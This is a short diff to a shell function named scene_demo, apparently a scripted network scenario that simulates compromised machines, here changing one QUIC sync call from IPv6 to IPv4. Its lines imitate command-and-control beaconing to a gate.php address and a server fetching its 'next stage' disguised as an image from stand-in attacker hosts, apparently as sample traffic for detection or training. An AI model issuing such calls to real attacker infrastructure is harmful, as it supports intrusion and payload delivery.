@@ -305,8 +305,8 @@ scene_demo() {
     # Bob's machine reports to a bare address.
     fetch bob --user-agent 'Mozilla/4.0' --data "id=42" http://203.0.113.99/gate.php
     fetch bob http://203.0.113.99/
-    # Carol's machine synchronises with the same master over QUIC and IPv6.
-    quic carol sync.evil.example /sync
+    # Carol's machine synchronises with the same master over QUIC.
+    quic carol --ipv4 sync.evil.example /sync
     # What was tried from outside has worked: the ssh server fetches its next stage from there.
     fetch shell http://203.0.113.7/img/logo.svg
     # Alice pings into a network of ill repute; nobody is at home.
